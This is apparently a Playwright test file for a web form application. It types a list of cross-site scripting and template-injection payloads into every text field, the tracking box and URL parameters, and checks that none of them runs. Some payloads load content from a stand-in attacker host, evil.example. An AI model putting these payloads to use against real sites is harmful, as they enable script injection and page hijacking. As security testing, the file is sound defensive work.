"""Whatever is typed is shown as typed: no page runs it, in any field or on any page."""

import pytest
from playwright.sync_api import Page

from tests.journeys.walks import CHOICES, press_next

VECTORS = (
    "<script>window.XSS=1</script>",
    "<img src=x onerror=window.XSS=1>",
    "<svg/onload=window.XSS=1>",
    '"><script>window.XSS=1</script>',
    "' autofocus onfocus=window.XSS=1 x='",
    '" autofocus onfocus=window.XSS=1 x="',
    "</textarea><script>window.XSS=1</script>",
    "</title><script>window.XSS=1</script>",
    "javascript:window.XSS=1",
    "{{ 7*7 }}{% raw %}${7*7}",
    "<iframe srcdoc='<script>parent.XSS=1</script>'>",
    '<math><mi//xlink:href="data:x,<script>window.XSS=1</script>">',
    '<a href="javascript:window.XSS=1">x</a>',
    "<details open ontoggle=window.XSS=1>",
    "<body onload=window.XSS=1>",
    "<style>@import 'http://evil.example/x';</style>",
    "<link rel=stylesheet href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "\u202egnp.exe",
    "&lt;script&gt;window.XSS=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.XSS=1",
    '<!--<img src="--><img src=x onerror=window.XSS=1//">',
    "<x contenteditable onblur=window.XSS=1>lose focus",
)


@pytest.fixture
def watched(page: Page) -> tuple[Page, list[str]]:
    """A page, and what the browser complains about meanwhile."""
    complaints: list[str] = []
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on(
        "console",
        lambda message: (
            complaints.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    page.on("dialog", lambda dialog: complaints.append(dialog.message))
    return page, complaints


def test_hostile_words_are_words_on_every_page(
    watched: tuple[Page, list[str]], address: str
) -> None:
    page, complaints = watched
    page.goto(f"{address}form?lang=en")
    page.check("#agree")
    press_next(page, "main button")
    typed = 0
    for _ in range(30):
        if "page=check" in page.url:
            break
        for choice in CHOICES:
            if page.locator(choice).count():
                page.check(choice)
        for name in ("f-state", "f-district", "f-station"):
            if page.locator(f"select[name='{name}']").count():
                page.select_option(f"select[name='{name}']", index=1)
        for box in page.locator("main input[type=text], main textarea").all():
            if (box.get_attribute("inputmode") or "") == "numeric":
                continue
            box.fill(VECTORS[typed % len(VECTORS)])
            typed += 1
        if page.locator("[name='f-mobile']").count():
            page.fill("[name='f-mobile']", "98765 43210")
        press_next(page)
        assert page.evaluate("window.XSS") is None

    summary = page.inner_text("main")
    page.goto(f"{address}track")
    for vector in VECTORS:
        page.fill("#number", vector[:60])
        press_next(page, "main button")
        assert page.evaluate("window.XSS") is None

    assert typed > 12
    assert "<script>window.XSS=1</script>" in summary
    assert complaints == []


@pytest.mark.parametrize("name", ["lang", "page", "asked", "more", "done", "set"])
def test_hostile_addresses_are_harmless(
    watched: tuple[Page, list[str]], address: str, name: str
) -> None:
    page, complaints = watched

    for path in ("", "form", "track", "lost", "lost/new"):
        page.goto(f"{address}{path}?{name}=%22%3E%3Cscript%3Ewindow.XSS=1%3C/script%3E")

        assert page.evaluate("window.XSS") is None
    assert complaints == []
